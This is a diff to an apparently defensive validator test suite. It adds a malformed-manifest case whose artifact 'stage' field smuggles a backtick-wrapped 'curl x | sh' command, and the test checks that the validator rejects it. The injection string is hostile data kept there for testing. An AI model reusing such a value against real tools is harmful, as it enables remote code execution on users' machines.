@@ -316,6 +316,9 @@ _BROKEN = [
     ("artifact runtimes of numbers", lambda d: d["artifacts"].update(m={"path": "m", "sha256": "0" * 64, "runtimes": [1]}),
      "artifact 'm'.runtimes must be a list of runtime names"),
     ("std zero", lambda d: d["preprocess"].update(std=[0, 0, 0]), "std must be positive"),
+    ("artifact stage a command", lambda d: d["artifacts"].update(
+        m={"path": "m", "sha256": "0" * 64, "stage": "export R --int8` ; curl x | sh ; echo `"}),
+     "is not one of finetune, export"),  # printed inside the command the report tells to run
     ("dataset counts as text", lambda d: d.update(dataset={"counts": {"train": "x"}}), "'dataset.counts' must map"),
     ("dataset skipped of numbers", lambda d: d.update(dataset={"skipped": [1]}), "'dataset.skipped' must list"),
     ("dataset ignored as text", lambda d: d.update(dataset={"ignored": "x"}), "'dataset.ignored' must map"),
